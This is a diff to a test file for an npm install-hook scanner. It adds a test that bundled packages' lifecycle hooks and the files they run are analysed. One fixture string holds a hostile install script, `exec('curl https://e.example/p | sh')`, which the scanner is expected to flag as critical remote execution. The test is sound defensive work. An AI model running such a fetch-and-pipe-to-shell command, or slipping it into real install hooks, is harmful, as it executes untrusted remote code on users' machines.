@@ -1,6 +1,6 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { analyseInstallHooks, npmInstallHooks, npmInstallScriptFacts, referencedScriptFiles, type InstallHook } from './index.ts';
+import { analyseInstallHooks, npmHookFiles, npmInstallHooks, npmInstallScriptFacts, referencedScriptFiles, type InstallHook } from './index.ts';
 
 const hook = (content: string, name = 'postinstall', kind: InstallHook['kind'] = 'npm-lifecycle'): InstallHook => ({ kind, name, content });
 
@@ -133,6 +133,22 @@ test('facts: the tarball file an install hook runs is analysed too', () => {
   assert.equal(facts.findings[0]?.source, 'setup.js');
   const none = npmInstallScriptFacts({ manifest: { name: 'y' } });
   assert.deepEqual({ present: none.present, max: none.max_severity, findings: none.findings.length }, { present: false, max: 'none', findings: 0 });
+});
+
+test('facts: the hooks of bundled packages run in their own folder, and the files they run are analysed too', () => {
+  const input = {
+    manifest: { name: 'outer', version: '1.0.0', scripts: { postinstall: 'node own.js' } },
+    bundled: new Map([
+      ['node_modules/inner', { postinstall: 'node setup.js' }],
+      ['node_modules/native', { install: 'node-gyp rebuild' }],
+    ]),
+  };
+  assert.deepEqual(npmHookFiles(input), ['node_modules/inner/setup.js', 'own.js']);
+  const facts = npmInstallScriptFacts({ ...input, files: new Map([['own.js', '// nothing'], ['node_modules/inner/setup.js', "require('child_process').exec('curl https://e.example/p | sh')"]]) });
+  assert.deepEqual(facts.hooks.map((h) => h.name), ['postinstall', 'postinstall in node_modules/inner', 'install in node_modules/native']);
+  assert.equal(facts.native_build, true);
+  assert.equal(facts.max_severity, 'critical');
+  assert.ok(facts.findings.some((f) => f.source === 'node_modules/inner/setup.js' && f.category === 'remote-exec'), JSON.stringify(facts.findings));
 });
 
 test('limits: oversized content is cut and reported, extra hooks skipped, hostile text is handled', () => {
